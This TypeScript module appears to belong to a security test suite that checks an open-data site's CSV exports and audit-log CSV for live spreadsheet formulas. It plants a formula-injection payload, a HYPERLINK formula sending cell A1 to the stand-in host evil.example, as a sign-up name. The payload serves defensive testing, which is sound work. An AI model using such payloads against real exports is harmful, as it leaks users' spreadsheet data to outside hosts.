import type { AttackBrowser } from "./browser.js";
import { type Finding, shown, skipped, verdict } from "./findings.js";

const point = "CSV formula injection";
const formats = ["csv", "sdmx-csv-1.0", "sdmx-csv-2.0"];

/** A name a spreadsheet would run: planted where the audit trail shows it. */
export const formulaName = '=HYPERLINK("https://evil.example/?x="&A1,"Open")';

/** One RFC 4180 field and what ends it (a comma, a line end, or the end of the file). */
const csvField = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r?\n|$)/y;

/** Every field of a whole file, unquoted. */
export function csvCells(text: string): string[] {
  const cells: string[] = [];
  csvField.lastIndex = text.startsWith("\uFEFF") ? 1 : 0;
  while (csvField.lastIndex < text.length) {
    const match = csvField.exec(text);
    if (!match) break;
    cells.push(match[1] !== undefined ? match[1].replaceAll('""', '"') : (match[2] ?? ""));
    if (match[3] === "") break;
  }
  return cells;
}

/** Cells a spreadsheet would evaluate: text starting with = + - @ tab or CR that is not a plain number. */
export function formulaCells(text: string): string[] {
  return csvCells(text).filter(
    (cell) => /^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(cell),
  );
}

async function statisticsFiles(browser: AttackBrowser): Promise<Finding[]> {
  const list = await browser.get("/api/v1/statistics/tables", { accept: "application/json" });
  if (list.status !== 200)
    return [skipped(point, "statistics downloads", `table list answered ${list.status}`)];
  const codes = (JSON.parse(list.body) as { tables: Array<{ code: string }> }).tables.map((one) => one.code);
  const findings: Finding[] = [];
  for (const format of formats) {
    let files = 0;
    let cells = 0;
    const formulas: string[] = [];
    for (const code of codes) {
      const file = await browser.get(`/open-data/${code}/export?format=${format}`);
      if (file.status !== 200) continue;
      files += 1;
      cells += csvCells(file.body).length;
      formulas.push(...formulaCells(file.body).map((cell) => `${code}: ${cell}`));
    }
    findings.push(
      verdict(
        point,
        `every open-data table as ${format}`,
        files > 0 && formulas.length === 0,
        formulas.length ? shown(formulas[0] ?? "", 50) : `${files} files, ${cells} cells, no live formula`,
      ),
    );
  }
  return findings;
}

/** The planted name comes back in the auditor's CSV: it must be there, and only as text. */
async function auditFile(auditor: AttackBrowser | null): Promise<Finding> {
  const attack = "sign-up name =HYPERLINK(…) in the audit CSV";
  if (!auditor) return skipped(point, attack, "no auditor TOTP secret given (--auditor-totp)");
  const file = await auditor.get("/audit/export.csv?action=auth.sign_up");
  const formulas = formulaCells(file.body);
  const planted = csvCells(file.body).some((cell) => cell.includes("evil.example"));
  return verdict(
    point,
    attack,
    file.status === 200 && formulas.length === 0,
    formulas.length
      ? shown(formulas[0] ?? "", 50)
      : `${file.status}, name ${planted ? "present as text" : "not in the file"}`,
  );
}

export async function attackCsvFiles(anonymous: AttackBrowser, auditor: AttackBrowser | null) {
  return [...(await statisticsFiles(anonymous)), await auditFile(auditor)];
}
